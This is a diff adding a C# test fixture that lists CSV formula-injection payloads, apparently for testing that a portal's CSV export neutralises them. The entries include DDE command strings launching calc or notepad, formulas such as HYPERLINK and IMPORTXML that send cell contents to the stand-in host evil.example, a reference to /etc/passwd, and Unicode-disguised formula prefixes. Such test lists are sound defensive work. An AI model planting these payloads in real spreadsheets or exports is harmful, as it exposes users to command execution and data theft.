@@ -1,0 +1,53 @@
+namespace ResponsibilityPortal.Tests.Formats.Csv;
+
+/// <summary>Texts that some spreadsheet runs as a formula, or is led to by what it drops or converts.</summary>
+public static class InjectionPayloads
+{
+    public static TheoryData<string> All { get; } =
+    [
+        "=1+1",
+        "=cmd|' /C calc'!A0",
+        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
+        "=WEBSERVICE(\"http://evil.example\")",
+        "=IMPORTXML(CONCAT(\"http://evil.example/?v=\",A1),\"//a\")",
+        "=IMPORTDATA(\"http://evil.example\")",
+        "=IMAGE(\"http://evil.example/x.png\")",
+        "='file:///etc/passwd'#$passwd.A1",
+        "=DDE(\"cmd\";\"/C calc\";\"x\")",
+        "=rundll32|'URL.dll,OpenURL calc.exe'!A",
+        "=\"a\"&CHAR(10)",
+        "==1",
+        "+1+1",
+        "+cmd|' /C notepad'!'A1'",
+        "+HYPERLINK(\"http://evil.example\")",
+        "-1+1",
+        "-2+3+cmd|' /C calc'!A0",
+        "-",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "@A1",
+        "\t=1+1",
+        "\tplain",
+        "\r=1+1",
+        "\rplain",
+        "\n=1+1",
+        "\nplain",
+        "\0=1+1",
+        "\0plain",
+        " =1+1",
+        "   -1",
+        "\u00A0=1+1",
+        "\u200B=1+1",
+        "\uFEFF=1+1",
+        "\u202E=1+1",
+        "\u00AD@A1",
+        "\uFF1D1+1",
+        "\uFF0B1+1",
+        "\uFF0D1+1",
+        "\uFF20A1",
+        "\uFE661+1",
+        "\u207A1",
+        "\u22121+1",
+        "=1+1\"\r\n=2+2",
+        "+1,=2;=3",
+    ];
+}
